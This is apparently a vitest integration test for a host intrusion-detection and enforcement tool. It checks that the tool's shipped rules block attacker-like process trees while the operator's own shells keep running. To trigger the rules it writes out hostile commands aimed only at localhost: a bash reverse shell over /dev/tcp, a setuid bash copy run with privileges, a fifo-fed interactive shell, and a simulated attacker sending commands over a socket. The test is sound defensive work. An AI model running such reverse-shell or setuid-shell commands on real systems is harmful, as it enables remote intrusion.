import { spawn } from "node:child_process";
import { chmodSync, copyFileSync, mkdirSync, realpathSync } from "node:fs";
import { createServer } from "node:net";
import type { AddressInfo, Server, Socket } from "node:net";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import type { Alert } from "../../bus/types/alert.ts";
import { list } from "../../rules/cli-api.ts";
import { attackProgram } from "../attacks/build.ts";
import { FedShell } from "./fed-shell.ts";
import { startReeve, until } from "./reeve.ts";
import type { RunningReeve } from "./reeve.ts";

// The shipped policies in enforce mode, on this host. Every shipped rule has an exception for whatever does not run in the
// directory of this test, so nothing else can raise an alert, and without an alert no policy decides anything.

let reeve: RunningReeve;
let alerts: Alert[];
let listener: Server;
let port: number;
/** What the next connection to the listener gets as its attacker. */
let attacker: ((socket: Socket) => void) | undefined;
let home: string;

beforeAll(async () => {
  listener = createServer((socket) => {
    socket.on("error", () => {});
    const act = attacker;
    attacker = undefined;
    if (act === undefined) socket.end();
    else act(socket);
  });
  await new Promise<void>((ready) => listener.listen(0, "127.0.0.1", ready));
  port = (listener.address() as AddressInfo).port;
  const fileless = await attackProgram("fileless_exec");
  const { rules, errors } = await list({ dirs: [], shipped: true });
  if (errors.length > 0) throw new Error(`the shipped rules cannot be read: ${JSON.stringify(errors)}`);
  const ids = rules.filter((rule) => rule.kind === "rule").map((rule) => rule.id);
  const onlyOurs = (dir: string): string =>
    ids
      .map((id) => `- {rule: ${id}, name: only-this-test, when: '$not($startsWith(process.cwd, "${dir}/home"))'}\n`)
      .join("");
  reeve = await startReeve("operator", ["--enforce"], (dir) => ({ "exceptions/only_ours.yaml": onlyOurs(dir) }));

  home = join(reeve.dir, "home");
  mkdirSync(home);
  chmodSync(home, 0o755);
  for (const [name, from, mode] of [
    ["x", "/bin/true", 0o755],
    ["nginx", realpathSync("/bin/bash"), 0o755],
    ["bash", realpathSync("/bin/bash"), 0o4755],
    ["fileless", fileless, 0o755],
  ] as const) {
    copyFileSync(from, join(home, name));
    chmodSync(join(home, name), mode);
  }
  alerts = [];
  const client = await reeve.plainClient();
  client.subscribe("reeve.alerts.>", { callback: (_error, message) => alerts.push(message.json()) });
  await client.flush();
});

afterAll(async () => {
  await reeve?.stop();
  await new Promise((done) => listener.close(done));
});

/** An operator at a terminal: an interactive shell on a pty of its own, in the directory of the test. */
async function operator(): Promise<FedShell> {
  const shell = new FedShell(
    spawn("script", ["-qfc", "exec /bin/bash --norc --noprofile --noediting -i", "/dev/null"], {
      cwd: home,
      stdio: ["pipe", "pipe", "pipe"],
    }),
  );
  await shell.run("stty -echo; PS1=");
  return shell;
}

const pidOf = async (shell: FedShell): Promise<number> =>
  Number(/pid=(\d+)/.exec((await shell.run("echo pid=$$")).output)?.[1]);

/** That a shell can run programs and connect. */
async function expectFree(shell: FedShell): Promise<void> {
  expect((await shell.run("/bin/echo it runs")).output).toContain("it runs");
  expect((await shell.run("/bin/true")).status).toBe(0);
  expect((await shell.run(`(exec 3<>/dev/tcp/127.0.0.1/${port})`)).status).toBe(0);
}

function alertOf(rule: string, pid?: number): Alert | undefined {
  return alerts.find(
    (alert) =>
      alert.rule === rule && "process" in alert.event && (pid === undefined || alert.event.process?.pid === pid),
  );
}

/**
 * Whoever is at the other end of a reverse shell, until it is cut off: tries a program, then a connection, again and again.
 * `saw` is what came back.
 */
function attack(): { saw: () => string } {
  let saw = "";
  attacker = (socket) => {
    const tries = setInterval(() => {
      if (saw.includes("exec=137") && saw.includes("not permitted")) socket.end("exit\n");
      else socket.write(`/bin/true; echo exec=$?; (exec 3<>/dev/tcp/127.0.0.1/${port})\n`);
    }, 100);
    const giveUp = setTimeout(() => socket.destroy(), 8_000);
    socket.on("data", (chunk: Buffer) => (saw += chunk.toString()));
    socket.on("close", () => (clearInterval(tries), clearTimeout(giveUp)));
  };
  return { saw: () => saw };
}

describe("with the shipped policies in enforce mode the operator's shell goes on", () => {
  test("whatever of the shipped rules it sets off, while the offending tree is cut off", async () => {
    const one = await operator();
    const two = await operator();
    try {
      await expectFree(one);
      // The shell itself is the finding: an operator whose shell has a set-id bit, on the terminal.
      await two.run(
        "exec setpriv --reuid 65534 --regid 65534 --clear-groups ./bash --norc --noprofile --noediting -p -i",
      );
      await two.run("PS1=");
      const twoPid = await pidOf(two);
      await until(() => alertOf("set-id-shell", twoPid) !== undefined, 10_000, "the alert about the shell itself");

      // Its children are findings.
      expect((await one.run("./x")).status).toBe(0);
      expect((await one.run("./nginx --norc -c '/bin/sh -c true; true'")).status).toBe(0);
      expect((await one.run("./fileless /bin/true")).status).toBe(0);
      expect((await one.run("mkfifo f; echo exit > f & /bin/bash --norc -i < f 2>&1 | cat")).output).toBeDefined();
      for (const rule of ["exec-from-tmp", "shell-from-web-server", "fileless-exec", "reverse-shell"])
        await until(() => alertOf(rule) !== undefined, 10_000, `the alert of ${rule}`);

      // Decisions come in the order of the alerts: when this one is in force, all before it are.
      const { saw } = attack();
      await one.run(`/bin/bash --norc -i >& /dev/tcp/127.0.0.1/${port} 0>&1`);
      expect(saw()).toContain("exec=137");
      expect(saw()).toContain("Operation not permitted");

      await expectFree(one);
      await expectFree(two);
      const entries = await (await reeve.operator()).readDesired();
      const scopes = entries.flatMap(({ entry }) => entry?.selectors ?? []).map((it) => it.scope);
      expect(scopes.length).toBeGreaterThan(1);
      // Nothing but trees, and no tree of a shell of the operator.
      const onePid = await pidOf(one);
      for (const scope of scopes) {
        expect(Object.keys(scope).filter((key) => key !== "nodes")).toEqual(["tree"]);
        const pid = Number(
          Buffer.from(scope.tree ?? "", "base64")
            .toString()
            .split(":")
            .at(2),
        );
        expect([onePid, twoPid]).not.toContain(pid);
      }
    } finally {
      one.kill();
      two.kill();
    }
  }, 60_000);
});
